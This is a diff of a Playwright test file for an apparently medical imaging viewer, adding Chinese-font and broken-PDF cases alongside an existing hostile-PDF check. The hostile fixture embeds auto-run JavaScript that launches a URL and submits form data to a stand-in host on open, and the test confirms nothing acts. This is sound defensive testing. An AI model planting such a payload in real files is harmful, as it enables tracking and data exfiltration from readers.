@@ -90,14 +90,31 @@ function markedStudy(): readonly ServedInstance[] {
 /** One page with a black square, and everything in it that a PDF can do by itself when it is opened. */
 function hostilePdf(): string {
   const content = '0 0 0 rg 50 50 100 100 re f';
-  const objects = [
+  return pdfOf([
     '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> >>',
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [6 0 R] /AA << /O 5 0 R >> >>',
     `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
     "<< /S /JavaScript /JS (app.alert('owned'); app.launchURL('http://192.0.2.1/owned'); this.submitForm('http://192.0.2.1/owned');) /Next << /S /URI /URI (http://192.0.2.1/owned) >> >>",
     '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (http://192.0.2.1/owned) >> >>',
-  ];
+  ]);
+}
+
+/** One character, 中, in the code of GBK and a font that is not in the file: how many hospitals write their reports. */
+function chinesePdf(): string {
+  const content = 'BT /F1 150 Tf 25 50 Td <D6D0> Tj ET';
+  return pdfOf([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
+    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+    '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light-GBK-EUC-H /Encoding /GBK-EUC-H /DescendantFonts [6 0 R] >>',
+    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /DW 1000 /FontDescriptor 7 0 R >>',
+    '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >>',
+  ]);
+}
+
+function pdfOf(objects: readonly string[]): string {
   let file = '%PDF-1.7\n';
   const offsets = objects.map((object, index) => {
     const at = file.length;
@@ -110,9 +127,12 @@ function hostilePdf(): string {
 }
 
 function filedStudy(): readonly ServedInstance[] {
-  const made = madeObject(FILED, 2, { SOPClassUID: '1.2.840.10008.5.1.4.1.1.104.1', Modality: 'DOC', DocumentTitle: '外院报告', MIMETypeOfEncapsulatedDocument: 'application/pdf' });
-  const bytes = new TextEncoder().encode(hostilePdf());
-  return [madeImage({ ...one(FILED), rows: 64, columns: 64, value: () => 100 }), { ...made, metadata: { ...made.metadata, '00420011': { vr: 'OB', BulkDataURI: '00420011' } }, bulkData: [{ elementPath: '00420011', bytes }] }];
+  const filed = (series: number, pdf: string): ServedInstance => {
+    const made = madeObject(FILED, series, { SOPClassUID: '1.2.840.10008.5.1.4.1.1.104.1', Modality: 'DOC', DocumentTitle: '外院报告', MIMETypeOfEncapsulatedDocument: 'application/pdf' });
+    const bytes = new TextEncoder().encode(pdf);
+    return { ...made, metadata: { ...made.metadata, '00420011': { vr: 'OB', BulkDataURI: '00420011' } }, bulkData: [{ elementPath: '00420011', bytes }] };
+  };
+  return [madeImage({ ...one(FILED), rows: 64, columns: 64, value: () => 100 }), filed(2, hostilePdf()), filed(3, chinesePdf()), filed(4, 'no PDF at all')];
 }
 
 function video(series: number, transferSyntaxUid: string, frame: Uint8Array): ServedInstance {
@@ -281,7 +301,7 @@ test('a PDF from outside is drawn, and nothing in it acts', async ({ page }) => 
   });
   page.on('popup', () => complaints.push('a window was opened'));
   await open(page, FILED);
-  await object(page, 'pdf').click();
+  await object(page, 'pdf').nth(0).click();
   const sheet = page.getByTestId('pdf-page');
   await expect(sheet).toHaveAttribute('data-drawn', 'true');
   // The square reaches from 50 to 150 of 200 points: black in the middle, white at an eighth.
@@ -293,6 +313,20 @@ test('a PDF from outside is drawn, and nothing in it acts', async ({ page }) => 
   });
   expect([middle, edge]).toEqual([0, 255]);
   await sheet.click();
+  // Chinese text without its font needs the character map of GBK.
+  await object(page, 'pdf').nth(1).click();
+  await expect(sheet).toHaveAttribute('data-drawn', 'true');
+  const ink = await sheet.evaluate((element) => {
+    const canvas = element as HTMLCanvasElement;
+    const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height);
+    return data.filter((value, index) => index % 4 === 0 && value < 128).length / (canvas.width * canvas.height);
+  });
+  // A character of 150 of 200 points: a few strokes, neither an empty sheet nor a black box.
+  expect(ink).toBeGreaterThan(0.01);
+  expect(ink).toBeLessThan(0.5);
+  expect(asked.filter((url) => url.endsWith('/pdf/cmaps/GBK-EUC-H.bcmap'))).toHaveLength(1);
+  await object(page, 'pdf').nth(2).click();
+  await expect(page.getByTestId('pdf-failed')).toHaveText('这份 PDF 打不开：已损坏或有密码。其他内容不受影响');
   expect(page.url()).toContain(server.url);
   expect(asked.filter((url) => !url.startsWith(server.url) && !url.startsWith('blob:'))).toEqual([]);
 });
@@ -317,6 +351,12 @@ test('H.264 plays from MP4 and from a transport stream; MPEG-2 and damage are re
   };
   const place = (series: number) => page.locator(`[data-testid=series-thumbnail][data-series-instance-uid="1.2.${VIDEO}.${series}"]`).click();
   await expect(page.getByTestId('video-player')).toHaveAttribute('data-status', 'ready');
+  // Who it is stands over the video too.
+  await expect(page.getByTestId('viewport-identity')).toContainText('陈桂兰');
+  expect(await page.getByTestId('viewport-identity').evaluate((element) => {
+    // Both are positioned without a z-index: what comes later lies above.
+    return element.getBoundingClientRect().width > 0 && element.compareDocumentPosition(document.querySelector('video')!) === Node.DOCUMENT_POSITION_PRECEDING;
+  })).toBe(true);
   await playsWhole();
   await place(2);
   await playsWhole();
